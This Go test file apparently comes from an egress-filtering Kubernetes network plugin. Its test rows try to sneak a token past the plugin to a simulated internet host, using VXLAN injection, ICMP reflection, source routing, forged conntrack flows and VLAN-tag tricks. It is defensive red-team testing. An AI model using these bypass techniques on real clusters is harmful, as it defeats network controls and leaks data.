//go:build linux

package escape_test

import (
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"time"

	"github.com/containernetworking/plugins/pkg/ns"
	"golang.org/x/sys/unix"

	"github.com/egress-cni/egress-cni/internal/sim"
)

// probe: an unprivileged client of the pod (UID 1000), from the
// attempt's source port, sending the attempt's token.
func (w *world) probe(p *sim.Pod, network string, dst netip.AddrPort) func(*attempt) (string, error) {
	return func(a *attempt) (string, error) {
		reply, err := sim.RunProbe(w.ctx(), w.exe, p.NS, appUID, sim.Probe{
			Network: network, Addr: dst, LocalPort: a.lport, Payload: append(append([]byte(nil), a.token...), '\n'), Timeout: a.timeout()})
		return clientOutcome(reply, err)
	}
}

// raw: a packet from a raw socket in the pod (root, CAP_NET_RAW).
func (w *world) raw(p *sim.Pod, build func(a *attempt) sim.Packet) func(*attempt) (string, error) {
	return func(a *attempt) (string, error) {
		pkt := build(a)
		b, err := pkt.Marshal()
		if err != nil {
			return "", err
		}
		if err := sim.SendRaw(p.NS, b); err != nil {
			return "", err
		}
		return "sent " + pkt.String(), nil
	}
}

func udp(src, dst netip.AddrPort, payload []byte) sim.Packet {
	return sim.Packet{Src: src, Dst: dst, Proto: unix.IPPROTO_UDP, Payload: payload}
}

// vxlan: the pod (UID 1000, an ordinary UDP socket) sends a VXLAN
// datagram to the node's flannel port, to the node's VTEP MAC.
func (w *world) vxlan(p *sim.Pod, to *sim.Node, build func(a *attempt) sim.Packet) func(*attempt) (string, error) {
	return func(a *attempt) (string, error) {
		v := w.overlay.VTEP(to)
		inner := build(a)
		if err := sim.SendVXLAN(w.ctx(), w.exe, p.NS, appUID, v.Underlay, sim.FlannelVNI, v.MAC, inner); err != nil {
			return "", err
		}
		return fmt.Sprintf("sent to %s (VNI %d, inner %s)", v.Underlay, sim.FlannelVNI, inner), nil
	}
}

// frame: a whole Ethernet frame from the pod's eth0 (root, packet
// socket) to its gateway's MAC, with VLAN tags.
func (w *world) frame(p *sim.Pod, tags []sim.VLANTag, build func(a *attempt) sim.Packet) func(*attempt) (string, error) {
	return func(a *attempt) (string, error) {
		pkt := build(a)
		gwMAC, err := p.GatewayMAC(pkt.Is6())
		if err != nil {
			return "", err
		}
		src, err := sim.LinkMAC(p.NS, "eth0")
		if err != nil {
			return "", err
		}
		b, err := pkt.Marshal()
		if err != nil {
			return "", err
		}
		if err := sim.SendFrame(p.NS, "eth0", sim.EthernetFrame(gwMAC, src, tags, b)); err != nil {
			return "", err
		}
		var ts []string
		for _, t := range tags {
			ts = append(ts, fmt.Sprintf("%#04x/%d", t.TPID, t.VID))
		}
		return fmt.Sprintf("sent tags [%s] to %s: %s", strings.Join(ts, " "), gwMAC, pkt), nil
	}
}

// gatewayUDPFlow opens the gateway's live UDP flow to the internet's
// echo port (one exchange, so conntrack has seen both directions) and
// returns its local address; the flow's socket closes at the end of the
// attempt via a.cleanup.
func (w *world) gatewayUDPFlow(a *attempt, v6 bool) (netip.AddrPort, func(), error) {
	network, dst := "udp4", ap(inet4, echoPort)
	if v6 {
		network, dst = "udp6", ap(inet6, echoPort)
	}
	var c net.Conn
	err := w.gw.NS.Do(func(ns.NetNS) error {
		var err error
		c, err = net.DialTimeout(network, dst.String(), time.Second)
		return err
	})
	if err != nil {
		return netip.AddrPort{}, nil, err
	}
	_ = c.SetDeadline(time.Now().Add(2 * time.Second))
	if _, err := c.Write([]byte("gateway flow\n")); err != nil {
		c.Close()
		return netip.AddrPort{}, nil, err
	}
	buf := make([]byte, 512)
	if _, err := c.Read(buf); err != nil {
		c.Close()
		return netip.AddrPort{}, nil, fmt.Errorf("the gateway's own UDP flow got no answer: %w", err)
	}
	la, _ := netip.ParseAddrPort(c.LocalAddr().String())
	a.note = append(a.note, "gateway flow "+la.String()+" -> "+dst.String())
	return netip.AddrPortFrom(la.Addr().Unmap(), la.Port()), func() { c.Close() }, nil
}

// gatewayTCPFlow opens the gateway's live TCP connection to the
// internet's sink, sends a line, and returns its local address and the
// segment the internet host received (sequence numbers, options).
func (w *world) gatewayTCPFlow(a *attempt) (netip.AddrPort, sim.Packet, func(), error) {
	var c net.Conn
	err := w.gw.NS.Do(func(ns.NetNS) error {
		var err error
		c, err = net.DialTimeout("tcp4", ap(inet4, sinkPort).String(), time.Second)
		return err
	})
	if err != nil {
		return netip.AddrPort{}, sim.Packet{}, nil, fmt.Errorf("the gateway's own TCP connection: %w", err)
	}
	la, _ := netip.ParseAddrPort(c.LocalAddr().String())
	// Not the attempt's token: only the forged segment may carry it.
	hello := []byte("gateway hello\n")
	mark := w.rec.Mark()
	if _, err := c.Write(hello); err != nil {
		c.Close()
		return netip.AddrPort{}, sim.Packet{}, nil, err
	}
	seen := w.rec.Wait(mark, func(p sim.Packet) bool {
		return p.Proto == unix.IPPROTO_TCP && p.Dst.Port() == sinkPort && string(p.Payload) == string(hello)
	}, 2*time.Second)
	if len(seen) == 0 {
		c.Close()
		return netip.AddrPort{}, sim.Packet{}, nil, fmt.Errorf("the gateway's data segment never reached the internet host")
	}
	a.note = append(a.note, fmt.Sprintf("gateway flow %s -> %s seen as %s", la, ap(inet4, sinkPort), seen[0].Src))
	return netip.AddrPortFrom(la.Addr().Unmap(), la.Port()), seen[0].Packet, func() { c.Close() }, nil
}

func (w *world) sinkGot(token []byte) string {
	for _, c := range w.sink.Conns() {
		if strings.Contains(string(c.Data), string(token)) {
			return "the sink's connection from " + c.Remote.String() + " received the forged data"
		}
	}
	return ""
}

func (w *world) rows() []row {
	c := w.c
	bridged := sim.Bridged
	gw4, gw6 := func() netip.Addr { return w.gw.IP4 }, func() netip.Addr { return w.gw.IP6 }
	l2name := "bridge " + w.topo.Bridge
	if w.topo.Topology == sim.Routed {
		l2name = "ptp veth"
	}
	qinq := []sim.VLANTag{{TPID: unix.ETH_P_8021AD, VID: 0}, {TPID: unix.ETH_P_8021Q, VID: 0}}
	rows := []row{
		// Services with an internet endpoint, as kube-proxy programs them
		// (KUBE-MARK-MASQ 0x4000, masquerade).
		{class: "kube-proxy", path: "NodePort on the other (egress) node, internet endpoint, tcp4", from: w.app,
			run: w.probe(w.app, "tcp4", ap(c.Egress.Uplink4, exfilNode))},
		{class: "kube-proxy", path: "NodePort on the other (egress) node, internet endpoint, udp4", from: w.app,
			run: w.probe(w.app, "udp4", ap(c.Egress.Uplink4, exfilNode))},
		{class: "kube-proxy", path: "NodePort on the other (egress) node, internet endpoint, tcp6", from: w.app,
			run: w.probe(w.app, "tcp6", ap(c.Egress.Uplink6, exfilNode))},
		{class: "kube-proxy", path: "NodePort on the other (egress) node, internet endpoint, udp6", from: w.app,
			run: w.probe(w.app, "udp6", ap(c.Egress.Uplink6, exfilNode))},
		{class: "kube-proxy", path: "NodePort on the pod's own node, internet endpoint, tcp4", from: w.app,
			run: w.probe(w.app, "tcp4", ap(c.App.Uplink4, exfilNode))},
		{class: "kube-proxy", path: "NodePort on the pod's own node, internet endpoint, udp4", from: w.app,
			run: w.probe(w.app, "udp4", ap(c.App.Uplink4, exfilNode))},
		{class: "kube-proxy", path: "NodePort on the pod's own node, internet endpoint, tcp6", from: w.app,
			run: w.probe(w.app, "tcp6", ap(c.App.Uplink6, exfilNode))},
		{class: "kube-proxy", path: "NodePort on the pod's own node, internet endpoint, udp6", from: w.app,
			run: w.probe(w.app, "udp6", ap(c.App.Uplink6, exfilNode))},
		{class: "kube-proxy", path: "NodePort on the pod's own node (the egress node), internet endpoint, udp4", from: w.worker,
			run: w.probe(w.worker, "udp4", ap(c.Egress.Uplink4, exfilNode))},
		{class: "kube-proxy", path: "externalIP, internet endpoint, tcp4", from: w.app,
			run: w.probe(w.app, "tcp4", ap(extIP4, exfilPort))},
		{class: "kube-proxy", path: "externalIP, internet endpoint, udp4", from: w.app,
			run: w.probe(w.app, "udp4", ap(extIP4, exfilPort))},
		{class: "kube-proxy", path: "externalIP, internet endpoint, tcp6", from: w.app,
			run: w.probe(w.app, "tcp6", ap(extIP6, exfilPort))},
		{class: "kube-proxy", path: "externalIP, internet endpoint, udp6", from: w.app,
			run: w.probe(w.app, "udp6", ap(extIP6, exfilPort))},

		// Reflection (the second red-team pass): a forged internet source
		// makes the node itself answer the internet host with the pod's
		// data, on its output path, which the exit never judges: an echo
		// reply carrying the payload, a port unreachable or a Time
		// Exceeded (sent before the forward hook) quoting it, also riding
		// a flow the internet host really opened.
		{class: "reflect", path: "VXLAN to the egress node, inner ICMP echo request from the internet host to the node (reply carries the data)", from: w.app,
			run: w.vxlan(w.app, c.Egress, func(a *attempt) sim.Packet { return echoRequest(inet4, c.Egress.Uplink4, a.lport, a.token) })},
		{class: "reflect", path: "VXLAN to the egress node, inner ICMPv6 echo request from the internet host to the node", from: w.app,
			run: w.vxlan(w.app, c.Egress, func(a *attempt) sim.Packet { return echoRequest(inet6, c.Egress.Uplink6, a.lport, a.token) })},
		{class: "reflect", path: "VXLAN to its own node, inner ICMP echo request from the internet host to the node", from: w.app,
			run: w.vxlan(w.app, c.App, func(a *attempt) sim.Packet { return echoRequest(inet4, c.App.Uplink4, a.lport, a.token) })},
		{class: "reflect", path: "VXLAN to the egress node, inner udp4 from the internet host to a closed node port (port unreachable quotes it)", from: w.app,
			run: w.vxlan(w.app, c.Egress, func(a *attempt) sim.Packet { return udp(ap(inet4, a.lport), ap(c.Egress.Uplink4, 9), a.token) })},
		// A first fragment whose rest never comes is held by conntrack's
		// defragmenter (prerouting -400), before the source chain; when
		// the queue expires the node answers its source with a Time
		// Exceeded quoting it (the red-team pass after the IPv6 fix).
		// ipfrag_time is 1 s on the egress node for the row.
		{class: "reflect", path: "VXLAN to the egress node, inner udp4 first fragment from the internet host to the node (reassembly timeout)", from: w.app,
			run: w.fragTimeout(w.vxlan(w.app, c.Egress, func(a *attempt) sim.Packet {
				// A fragment with more to come carries a multiple of 8
				// bytes: the kernel trims the rest, so the token is padded
				// to stay whole in the queue and in the quote.
				payload := append([]byte(nil), a.token...)
				for (8+len(payload))%8 != 0 {
					payload = append(payload, ' ')
				}
				p := udp(ap(inet4, a.lport), ap(c.Egress.Uplink4, echoPort), payload)
				p.FirstFragment, p.ID = true, a.lport
				return p
			}))},
		{class: "reflect", path: "VXLAN to the egress node, inner udp4 from the internet host, TTL 1 (Time Exceeded before the forward hook)", from: w.app,
			run: w.vxlan(w.app, c.Egress, func(a *attempt) sim.Packet {
				p := udp(ap(inet4, a.lport), ap(inet4, echoPort), a.token)
				p.TTL = 1
				return p
			})},
		{class: "reflect", path: "VXLAN to the egress node, inner udp6 from the internet host, hop limit 1", from: w.app,
			run: w.vxlan(w.app, c.Egress, func(a *attempt) sim.Packet {
				p := udp(ap(inet6, a.lport), ap(inet6, echoPort), a.token)
				p.TTL = 1
				return p
			})},
		{class: "reflect", path: "VXLAN echo requests riding the internet host's own ping of the egress node (established)", from: w.app,
			run: func(a *attempt) (string, error) {
				genuine := echoRequest(inet4, c.Egress.Uplink4, a.lport, []byte("a real ping"))
				b, err := genuine.Marshal()
				if err != nil {
					return "", err
				}
				if err := sim.SendRaw(c.Internet, b); err != nil {
					return "", err
				}
				time.Sleep(100 * time.Millisecond)
				return w.vxlan(w.app, c.Egress, func(a *attempt) sim.Packet { return echoRequest(inet4, c.Egress.Uplink4, a.lport, a.token) })(a)
			}},
		// An unknown IPv6 Hop-by-Hop option (type 0x80): the kernel drops
		// the packet before the prerouting hook and answers its source
		// with a Parameter Problem quoting it, so no source check runs
		// (found by the last red-team pass); the node's output chain
		// stops the error.
		{class: "reflect", path: "VXLAN to the egress node, inner udp6 from the internet host with an unknown Hop-by-Hop option (Parameter Problem before prerouting)", from: w.app,
			run: w.vxlan(w.app, c.Egress, func(a *attempt) sim.Packet {
				return hopByHop(udp(ap(inet6, a.lport), ap(c.Egress.Uplink6, echoPort), a.token))
			})},
		{class: "reflect", path: "VXLAN to its own node, inner udp6 from the internet host to ff02::1 with an unknown Hop-by-Hop option", from: w.app,
			run: w.vxlan(w.app, c.App, func(a *attempt) sim.Packet {
				return hopByHop(udp(ap(inet6, a.lport), ap(netip.MustParseAddr("ff02::1"), echoPort), a.token))
			})},
		{class: "reflect", path: "registered pod, raw udp6 from the internet host's address to its node with an unknown Hop-by-Hop option (root)", from: w.worker,
			run: w.raw(w.worker, func(a *attempt) sim.Packet {
				return hopByHop(udp(ap(inet6, a.lport), ap(c.Egress.Uplink6, echoPort), a.token))
			})},
		{class: "reflect", path: "unregistered pod on " + lxcName + ", raw ICMP echo request from the internet host to the node (root)", from: w.lxc,
			run: w.raw(w.lxc, func(a *attempt) sim.Packet { return echoRequest(inet4, c.Egress.Uplink4, a.lport, a.token) })},

		// IPv4 loose source routing (the third red-team pass): sent to the
		// node's own (allowed) address with the internet host as the next
		// hop, the destination is rewritten after the forward hook. Only
		// reachable where accept_source_route is on, so the row turns it
		// on, on the egress node and the router, for itself.
		{class: "options", path: "raw udp4 to the egress node's uplink address, loose source route via the internet host (accept_source_route on)", from: w.worker,
			// LSRR: type 131, length 7, pointer 4, one address.
			run: w.sourceRouted(append([]byte{131, 7, 4}, inet4.AsSlice()...))},
		// The same with routes the kernel's option parser rejects in the
		// strict mode the "ip option lsrr exists" match uses, while the
		// receive path follows them (the fourth red-team pass): pointer 8
		// over two hops, and an odd length.
		{class: "options", path: "raw udp4 to the egress node's uplink address, loose source route with pointer 8 over two hops (accept_source_route on)", from: w.worker,
			run: w.sourceRouted(append(append([]byte{131, 11, 8}, netip.MustParseAddr("198.51.100.1").AsSlice()...), inet4.AsSlice()...))},
		{class: "options", path: "raw udp4 to the egress node's uplink address, loose source route of length 8 (accept_source_route on)", from: w.worker,
			run: w.sourceRouted(append(append([]byte{131, 8, 4}, inet4.AsSlice()...), 0))},

		// VXLAN decapsulation, from an unprivileged UDP socket.
		{class: "overlay", path: "VXLAN to the egress node's flannel.1, inner udp4 from an internet address", from: w.app,
			run: w.vxlan(w.app, c.Egress, func(a *attempt) sim.Packet { return udp(ap(foreign4, a.lport), ap(inet4, echoPort), a.token) })},
		{class: "overlay", path: "VXLAN to the egress node's flannel.1, inner udp6 from an internet address", from: w.app,
			run: w.vxlan(w.app, c.Egress, func(a *attempt) sim.Packet { return udp(ap(foreign6, a.lport), ap(inet6, echoPort), a.token) })},
		{class: "overlay", path: "VXLAN to the egress node's flannel.1, inner tcp4 SYN from an internet address", from: w.app,
			run: w.vxlan(w.app, c.Egress, func(a *attempt) sim.Packet {
				return sim.Packet{Src: ap(foreign4, a.lport), Dst: ap(inet4, echoPort), Proto: unix.IPPROTO_TCP, Flags: sim.TCPSyn, Seq: 1000}
			})},
		{class: "overlay", path: "VXLAN to the egress node's flannel.1, inner udp4 from the gateway's address", from: w.app,
			run: w.vxlan(w.app, c.Egress, func(a *attempt) sim.Packet { return udp(ap(gw4(), a.lport), ap(inet4, echoPort), a.token) })},
		{class: "overlay", path: "VXLAN to the egress node's flannel.1, inner udp6 from the gateway's address", from: w.app,
			run: w.vxlan(w.app, c.Egress, func(a *attempt) sim.Packet { return udp(ap(gw6(), a.lport), ap(inet6, echoPort), a.token) })},
		{class: "overlay", path: "VXLAN to the egress node's flannel.1, inner udp4 from the sender's own (remote pod) address", from: w.app,
			run: w.vxlan(w.app, c.Egress, func(a *attempt) sim.Packet { return udp(ap(w.app.IP4, a.lport), ap(inet4, echoPort), a.token) })},
		{class: "overlay", path: "VXLAN to its own node's flannel.1, inner udp4 from an internet address", from: w.app,
			run: w.vxlan(w.app, c.App, func(a *attempt) sim.Packet { return udp(ap(foreign4, a.lport), ap(inet4, echoPort), a.token) })},
		{class: "overlay", path: "VXLAN to its own node's flannel.1, inner udp6 from an internet address", from: w.app,
			run: w.vxlan(w.app, c.App, func(a *attempt) sim.Packet { return udp(ap(foreign6, a.lport), ap(inet6, echoPort), a.token) })},
		{class: "overlay", path: "VXLAN to its own node's flannel.1, inner udp4 from its own address", from: w.app,
			run: w.vxlan(w.app, c.App, func(a *attempt) sim.Packet { return udp(ap(w.app.IP4, a.lport), ap(inet4, echoPort), a.token) })},

		// Interface names and registration.
		{class: "names", path: "pod on a " + l2name + " -> internet, udp4", from: w.app,
			run: w.probe(w.app, "udp4", ap(inet4, echoPort))},
		{class: "names", path: "pod on a " + l2name + " -> internet, tcp6", from: w.app,
			run: w.probe(w.app, "tcp6", ap(inet6, echoPort))},
		{class: "names", path: "unregistered pod on " + lxcName + " (routed veth, no CNI) -> internet, udp4", from: w.lxc,
			run: w.probe(w.lxc, "udp4", ap(inet4, echoPort))},
		{class: "names", path: "unregistered pod on " + lxcName + " -> internet, udp6", from: w.lxc,
			run: w.probe(w.lxc, "udp6", ap(inet6, echoPort))},
		{class: "names", path: "unregistered pod on " + lxcName + " -> internet, tcp4", from: w.lxc,
			run: w.probe(w.lxc, "tcp4", ap(inet4, echoPort))},
		{class: "names", path: "unregistered pod on " + lxcName + ", raw udp4 from the gateway's address (root)", from: w.lxc,
			run: w.raw(w.lxc, func(a *attempt) sim.Packet { return udp(ap(gw4(), a.lport), ap(inet4, echoPort), a.token) })},

		// Gateway status.
		{class: "selector", path: "self-declared gateway (team-x, egress-cni.io/gateway=true) on the egress node, tcp4", from: w.selfgw,
			run: w.selfGateway("tcp4", ap(inet4, echoPort))},
		{class: "selector", path: "self-declared gateway on the egress node, udp6", from: w.selfgw,
			run: w.selfGateway("udp6", ap(inet6, echoPort))},

		// Riding conntrack: forged tuples of the gateway's live flows and
		// ICMP errors quoting them, from a root pod next to the gateway.
		{class: "conntrack", path: "forged 5-tuple of the gateway's live UDP flow, udp4 (raw socket, root)", from: w.worker,
			run: w.forgedUDP(false)},
		{class: "conntrack", path: "forged 5-tuple of the gateway's live UDP flow, udp6 (raw socket, root)", from: w.worker,
			run: w.forgedUDP(true)},
		{class: "conntrack", path: "forged in-window segment of the gateway's live TCP connection, tcp4 (raw, root)", from: w.worker,
			run: w.forgedTCP()},
		{class: "conntrack", path: "ICMP port unreachable from its own address quoting the gateway's UDP flow, data in the quote", from: w.worker,
			run: w.icmpQuote(false)},
		{class: "conntrack", path: "ICMPv6 port unreachable from its own address quoting the gateway's UDP flow, data in the quote", from: w.worker,
			run: w.icmpQuote(true)},

		// Link-layer tricks on the pod's port, from a root pod next to the
		// gateway, claiming the gateway's address.
		{class: "l2", path: "802.1Q VID 0 (priority-tagged) frame, udp4 from the gateway's address", from: w.worker,
			run: w.frame(w.worker, []sim.VLANTag{{TPID: unix.ETH_P_8021Q, VID: 0}}, func(a *attempt) sim.Packet {
				return udp(ap(gw4(), a.lport), ap(inet4, echoPort), a.token)
			})},
		{class: "l2", path: "802.1ad VID 0 + 802.1Q VID 0 (double priority tag) frame, udp4 from the gateway's address", from: w.worker,
			run: w.frame(w.worker, qinq, func(a *attempt) sim.Packet { return udp(ap(gw4(), a.lport), ap(inet4, echoPort), a.token) })},
		{class: "l2", path: "802.1Q VID 0 + 802.1Q VID 0 frame, udp4 from the gateway's address", from: w.worker,
			run: w.frame(w.worker, []sim.VLANTag{{TPID: unix.ETH_P_8021Q}, {TPID: unix.ETH_P_8021Q}}, func(a *attempt) sim.Packet {
				return udp(ap(gw4(), a.lport), ap(inet4, echoPort), a.token)
			})},
		{class: "l2", path: "802.1ad VID 0 + 802.1Q VID 0 frame, udp6 from the gateway's address", from: w.worker,
			run: w.frame(w.worker, qinq, func(a *attempt) sim.Packet { return udp(ap(gw6(), a.lport), ap(inet6, echoPort), a.token) })},
		{class: "l2", path: "802.1ad VID 0 + 802.1Q VID 0 frame, tcp4 SYN from the gateway's address", from: w.worker,
			run: w.frame(w.worker, qinq, func(a *attempt) sim.Packet {
				return sim.Packet{Src: ap(gw4(), a.lport), Dst: ap(inet4, echoPort), Proto: unix.IPPROTO_TCP, Flags: sim.TCPSyn, Seq: 7}
			})},
		{class: "l2", path: "802.1ad VID 0 + 802.1Q VID 0 frame, udp4 from an unregistered address of the node's pod subnet", from: w.worker, only: &bridged,
			run: w.frame(w.worker, qinq, func(a *attempt) sim.Packet {
				return udp(ap(netip.MustParseAddr("198.51.100.99"), a.lport), ap(inet4, echoPort), a.token)
			})},
	}
	// A pod bridge port nobody registered (bridged topology).
	if u := w.unreg; u != nil {
		rows = append(rows,
			row{class: "names", path: "unregistered port " + unregName + " of " + w.topo.Bridge + " (no CNI) -> internet, udp4", from: u,
				run: w.probe(u, "udp4", ap(inet4, echoPort))},
			row{class: "names", path: "unregistered port " + unregName + ", raw udp4 from the gateway's address (root)", from: u,
				run: w.raw(u, func(a *attempt) sim.Packet { return udp(ap(gw4(), a.lport), ap(inet4, echoPort), a.token) })},
			row{class: "l2", path: "unregistered port " + unregName + ", 802.1ad VID 0 + 802.1Q VID 0 frame, udp4 from the gateway's address", from: u,
				run: w.frame(u, qinq, func(a *attempt) sim.Packet { return udp(ap(gw4(), a.lport), ap(inet4, echoPort), a.token) })},
		)
	}
	// Riding another pod's ingress flow: an internet client talks to the
	// web pod; the attacker, on the same node, answers in its name.
	rows = append(rows,
		row{class: "l2", path: "untagged raw udp4 from the web pod's address, in the reply direction of an internet client's flow to it", from: w.app,
			run: w.rideIngress(nil)},
		row{class: "l2", path: "802.1ad VID 0 + 802.1Q VID 0 frame, udp4 from the web pod's address, reply direction of an internet client's flow", from: w.app,
			run: w.rideIngress(qinq)},
	)
	// Ingress through the egress node: its replies would leave the
	// egress node's public address (the internet host opens; the pod
	// answers).
	toProbe := func(a *attempt, p sim.Packet) bool { return p.Dst.Port() == a.lport }
	rows = append(rows,
		row{class: "ingress", path: "NodePort on the egress node's address, endpoint the web pod (app node): its replies, tcp4", who: "internet host",
			run: w.internetProbe("tcp4", ap(c.Egress.Uplink4, webNodePort)), match: toProbe},
		row{class: "ingress", path: "NodePort on the egress node's address, endpoint the web pod: its replies, tcp6", who: "internet host",
			run: w.internetProbe("tcp6", ap(c.Egress.Uplink6, webNodePort)), match: toProbe},
		row{class: "ingress", path: "datagram to a pod on the egress node (routed to it): its reply, udp4", who: "internet host",
			run: w.internetProbe("udp4", ap(w.worker.IP4, echoPort)), match: toProbe},
	)
	return rows
}

// internetProbe: the internet host (the attacker's accomplice) opens a
// connection into the cluster from the attempt's port.
func (w *world) internetProbe(network string, dst netip.AddrPort) func(*attempt) (string, error) {
	return func(a *attempt) (string, error) {
		reply, err := sim.RunProbe(w.ctx(), w.exe, w.c.Internet, 0, sim.Probe{
			Network: network, Addr: dst, LocalPort: a.lport, Payload: []byte("hello\n"), Timeout: a.timeout()})
		return clientOutcome(reply, err)
	}
}

// rideIngress: an internet client (from the attempt's port) exchanges a
// datagram with the web pod; then the app pod sends, in the web pod's
// name, a datagram of that flow's reply direction carrying the token
// (untagged from a raw socket, or in VLAN tags from a packet socket).
func (w *world) rideIngress(tags []sim.VLANTag) func(*attempt) (string, error) {
	return func(a *attempt) (string, error) {
		client := ap(inet4, a.lport)
		var c *net.UDPConn
		err := w.c.Internet.Do(func(ns.NetNS) error {
			var err error
			c, err = net.DialUDP("udp4", net.UDPAddrFromAddrPort(client), net.UDPAddrFromAddrPort(ap(w.web.IP4, echoPort)))
			return err
		})
		if err != nil {
			return "", err
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(2 * time.Second))
		if _, err := c.Write([]byte("client\n")); err != nil {
			return "", err
		}
		if _, err := c.Read(make([]byte, 512)); err != nil {
			return "", fmt.Errorf("the internet client's own flow to the web pod got no answer: %w", err)
		}
		a.note = append(a.note, fmt.Sprintf("client flow %s -> %s", client, ap(w.web.IP4, echoPort)))
		build := func(*attempt) sim.Packet { return udp(ap(w.web.IP4, echoPort), client, a.token) }
		if tags == nil {
			return w.raw(w.app, build)(a)
		}
		return w.frame(w.app, tags, build)(a)
	}
}

// selfGateway: the self-declared gateway dials out (UID 1000); the note
// says whether the plugin put it in the gateways set.
func (w *world) selfGateway(network string, dst netip.AddrPort) func(*attempt) (string, error) {
	probe := w.probe(w.selfgw, network, dst)
	return func(a *attempt) (string, error) {
		ip := w.selfgw.IP4
		if strings.HasSuffix(network, "6") {
			ip = w.selfgw.IP6
		}
		if !a.control {
			if w.gatewaySetHas(ip) {
				a.note = append(a.note, ip.String()+" IS in the gateways set")
				w.selfRegistered = append(w.selfRegistered, ip)
			} else {
				a.note = append(a.note, ip.String()+" not in the gateways set")
			}
		}
		return probe(a)
	}
}

func (w *world) forgedUDP(v6 bool) func(*attempt) (string, error) {
	return func(a *attempt) (string, error) {
		la, closeFlow, err := w.gatewayUDPFlow(a, v6)
		if err != nil {
			return "", err
		}
		defer closeFlow()
		dst := ap(inet4, echoPort)
		if v6 {
			dst = ap(inet6, echoPort)
		}
		return w.raw(w.worker, func(*attempt) sim.Packet { return udp(la, dst, a.token) })(a)
	}
}

func (w *world) forgedTCP() func(*attempt) (string, error) {
	return func(a *attempt) (string, error) {
		la, seg, closeFlow, err := w.gatewayTCPFlow(a)
		if err != nil {
			return "", err
		}
		defer closeFlow()
		pkt := sim.Packet{Src: la, Dst: ap(inet4, sinkPort), Proto: unix.IPPROTO_TCP, Flags: sim.TCPAck | sim.TCPPsh,
			Seq: seg.Seq + uint32(len(seg.Payload)), Ack: seg.Ack, Window: seg.Window, Options: seg.Options, Payload: append(append([]byte(nil), a.token...), '\n')}
		out, err := w.raw(w.worker, func(*attempt) sim.Packet { return pkt })(a)
		if err != nil {
			return "", err
		}
		time.Sleep(100 * time.Millisecond)
		if got := w.sinkGot(a.token); got != "" {
			a.note = append(a.note, got)
		}
		return out, nil
	}
}

func (w *world) icmpQuote(v6 bool) func(*attempt) (string, error) {
	return func(a *attempt) (string, error) {
		la, closeFlow, err := w.gatewayUDPFlow(a, v6)
		if err != nil {
			return "", err
		}
		defer closeFlow()
		far, own := ap(inet4, echoPort), w.worker.IP4
		if v6 {
			far, own = ap(inet6, echoPort), w.worker.IP6
		}
		// The quote: a packet of the flow's reply direction (internet ->
		// gateway), as if the worker were a hop that could not deliver
		// it; everything after its headers is the attacker's data.
		quoted, err := udp(far, la, a.token).Marshal()
		if err != nil {
			return "", err
		}
		return w.raw(w.worker, func(*attempt) sim.Packet { return sim.ICMPUnreachable(own, far.Addr(), quoted) })(a)
	}
}

// echoRequest is an ICMP (or ICMPv6) echo request with identifier id.
func echoRequest(src, dst netip.Addr, id uint16, payload []byte) sim.Packet {
	typ, proto := uint8(8), uint8(unix.IPPROTO_ICMP)
	if src.Is6() {
		typ, proto = 128, unix.IPPROTO_ICMPV6
	}
	return sim.Packet{Src: netip.AddrPortFrom(src, 0), Dst: netip.AddrPortFrom(dst, 0), Proto: proto, Type: typ, Rest: uint32(id)<<16 | 1, Payload: payload}
}

// sourceRouting turns accept_source_route on (or off) on the egress node
// and the router, and returns what puts the old values back.
// fragTimeout runs send with the egress node's fragment reassembly
// timeout at 1 s, and waits for the queue to expire.
func (w *world) fragTimeout(send func(*attempt) (string, error)) func(*attempt) (string, error) {
	return func(a *attempt) (string, error) {
		// The row's own ICMP error must not wait for the rate limit that
		// the rows before it used up.
		for key, v := range map[string]string{"net.ipv4.ipfrag_time": "1", "net.ipv4.icmp_ratelimit": "0"} {
			path := "/proc/sys/" + strings.ReplaceAll(key, ".", "/")
			var old []byte
			if err := w.c.Egress.NS.Do(func(ns.NetNS) error {
				var err error
				old, err = os.ReadFile(path)
				return err
			}); err != nil {
				return "", err
			}
			if err := sim.Sysctl(w.c.Egress.NS, key, v); err != nil {
				return "", err
			}
			defer func() { _ = sim.Sysctl(w.c.Egress.NS, key, strings.TrimSpace(string(old))) }()
		}
		out, err := send(a)
		if err != nil {
			return "", err
		}
		time.Sleep(2500 * time.Millisecond) // the queue expires after 1-2 s (the timer's slack)
		return out + ", waited for the reassembly timeout", nil
	}
}

// sourceRouted is a row that sends, from the worker pod, a raw udp4
// datagram to the egress node's uplink address with IPv4 options opts,
// with source routing on (on the egress node and the router) for the
// row only.
func (w *world) sourceRouted(opts []byte) func(*attempt) (string, error) {
	return func(a *attempt) (string, error) {
		restore, err := w.sourceRouting(true)
		if err != nil {
			return "", err
		}
		defer restore()
		p := udp(ap(w.worker.IP4, a.lport), ap(w.c.Egress.Uplink4, echoPort), a.token)
		p.IPOptions = opts
		pkt, err := p.Marshal()
		if err != nil {
			return "", err
		}
		if err := sim.SendRaw(w.worker.NS, pkt); err != nil {
			return "", err
		}
		time.Sleep(attemptGrace)
		return fmt.Sprintf("sent udp %s -> %s, options % x", w.worker.IP4, w.c.Egress.Uplink4, opts), nil
	}
}

func (w *world) sourceRouting(on bool) (func(), error) {
	v := "0"
	if on {
		v = "1"
	}
	var undo []func()
	restore := func() {
		for i := len(undo) - 1; i >= 0; i-- {
			undo[i]()
		}
	}
	for _, n := range []ns.NetNS{w.c.Egress.NS, w.c.Router} {
		for _, k := range []string{"net.ipv4.conf.all.accept_source_route", "net.ipv4.conf.default.accept_source_route"} {
			path := "/proc/sys/" + strings.ReplaceAll(k, ".", "/")
			var old []byte
			if err := n.Do(func(ns.NetNS) error {
				var err error
				old, err = os.ReadFile(path)
				return err
			}); err != nil {
				restore()
				return nil, err
			}
			if err := sim.Sysctl(n, k, v); err != nil {
				restore()
				return nil, err
			}
			undo = append(undo, func() { _ = sim.Sysctl(n, k, strings.TrimSpace(string(old))) })
		}
		// Each interface too: the kernel takes the AND of all and the
		// interface (the interfaces exist already, default does not
		// reach them).
		links, err := linkNames(n)
		if err != nil {
			restore()
			return nil, err
		}
		for _, l := range links {
			k := "net.ipv4.conf." + l + ".accept_source_route"
			if err := sim.Sysctl(n, k, v); err == nil {
				undo = append(undo, func() { _ = sim.Sysctl(n, k, "0") })
			}
		}
	}
	return restore, nil
}

func linkNames(n ns.NetNS) ([]string, error) {
	var names []string
	err := n.Do(func(ns.NetNS) error {
		ifs, err := net.Interfaces()
		for _, i := range ifs {
			names = append(names, i.Name)
		}
		return err
	})
	return names, err
}

